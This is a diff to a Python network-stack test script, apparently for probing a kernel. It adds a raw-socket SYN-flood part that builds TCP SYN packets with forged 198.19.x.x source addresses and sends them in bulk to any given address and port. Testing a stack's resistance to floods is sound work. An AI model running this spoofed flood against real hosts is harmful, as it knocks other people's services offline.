@@ -7,6 +7,7 @@ kernel.py PART ADDRESS PORT [ARGUMENT...]; see the functions at the end.
 import hashlib
 import select
 import socket
+import struct
 import sys
 import threading
 import time
@@ -140,6 +141,31 @@ def udp_ask(address, port, longest):
     print(f"= {len(lengths) + 1} datagrams came back, up to {longest} bytes")
 
 
+def checksum(data):
+    total = sum(data[i] << 8 | data[i + 1] for i in range(0, len(data), 2))
+    total = (total & 0xFFFF) + (total >> 16)
+    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
+
+
+def syn(source, address, source_port, port):
+    """An IPv4 packet with a SYN; the kernel fills in IP's checksum."""
+    ends = socket.inet_aton(source) + socket.inet_aton(address)
+    tcp = struct.pack("!HHIIBBHHH", source_port, port, source_port * 7919, 0, 6 << 4, 2, 65535, 0, 0)
+    tcp += b"\x02\x04\x05\xb4"
+    tcp = tcp[:16] + struct.pack("!H", checksum(ends + b"\0\6\0\x18" + tcp)) + tcp[18:]
+    return struct.pack("!BBHHHBBH", 0x45, 0, 44, 0, 0, 64, 6, 0) + ends + tcp
+
+
+def flood(address, port, count):
+    """Sends so many SYNs from addresses where nobody is."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for i in range(int(count)):
+        source = f"198.19.{i >> 8 & 255}.{i & 255}"
+        s.sendto(syn(source, address, 1024 + i % 60000, port), (address, 0))
+        if i % 100 == 99:
+            time.sleep(0.002)
+
+
 if __name__ == "__main__":
     parts = {
         "answer-after-end": answer_after_end,
@@ -147,6 +173,7 @@ if __name__ == "__main__":
         "exchange-listening": exchange_listening,
         "exchange-connecting": exchange_connecting,
         "urgent": urgent,
+        "flood": flood,
         "udp-echo": udp_echo,
         "udp-ask": udp_ask,
     }
